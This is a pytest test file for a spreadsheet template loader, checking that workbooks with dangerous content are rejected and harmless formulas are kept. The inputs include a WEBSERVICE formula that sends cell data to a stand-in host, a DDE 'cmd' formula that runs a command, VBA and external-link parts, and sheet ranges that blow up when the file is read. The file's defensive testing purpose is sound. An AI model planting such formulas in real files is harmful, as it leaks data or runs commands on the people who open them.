"""Templates in Excel: what would take the machine, or act on whoever opens it, is refused."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook

from engine.spreadsheets import UnreadableTable
from engine.spreadsheets.templates import template

SHEET = "xl/worksheets/sheet1.xml"
MERGED = '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
LINKED = '</sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'
FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
MANY = f'<row r="2">{"<c/>" * 60_000}</row></sheetData>'


def packed(*, end: str = "</sheetData>", part: str | None = None, **cells: str) -> bytes:
    """A workbook with these cells, another end of its sheet, and one part more."""
    book, file, out = Workbook(), io.BytesIO(), io.BytesIO()
    sheet = book.active
    assert sheet is not None
    for place, value in {"A1": "{{unit}}", **cells}.items():
        sheet[place] = value
    book.save(file)
    with zipfile.ZipFile(file) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(
                name, data.replace(b"</sheetData>", end.encode()) if name == SHEET else data
            )
        if part is not None:
            new.writestr(part, b"x")
    return out.getvalue()


@pytest.mark.parametrize("end", [MERGED, LINKED, FAR, MANY], ids=["merged", "link", "far", "many"])
def test_a_small_file_that_makes_a_sheet_without_end_is_refused(end: str) -> None:
    data = packed(end=end)
    assert len(data) < 10_000
    with pytest.raises(UnreadableTable):
        template(data)


@pytest.mark.parametrize(
    "part", ["xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/embeddings/a.bin"]
)
def test_parts_that_act_or_fetch_are_refused(part: str) -> None:
    with pytest.raises(UnreadableTable):
        template(packed(part=part))


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://a.example/?"&A1)',
        '=_xlfn.WEBSERVICE("http://a.example/?"&A1)',
        '=HYPERLINK("http://a.example/","打开")',
        "=cmd|'/c calc'!A0",
        "='[b.xlsx]S'!A1",
        # The quote of a text within the quotes of a sheet's name.
        """=SUM('a"b'!A1,WEBSERVICE("http://a.example/"))""",
        "=A1)",
    ],
)
def test_a_formula_only_calculates(formula: str) -> None:
    with pytest.raises(UnreadableTable):
        template(packed(B2=formula))


def test_a_formula_that_calculates_is_kept() -> None:
    known = {"B2": '=IF(SUM(A1:A9)>0,"[有]|","")', "B3": "='表(1)'!A1*100"}
    sheet = template(packed(**known)).worksheets[0]
    assert {place: sheet[place].value for place in known} == known
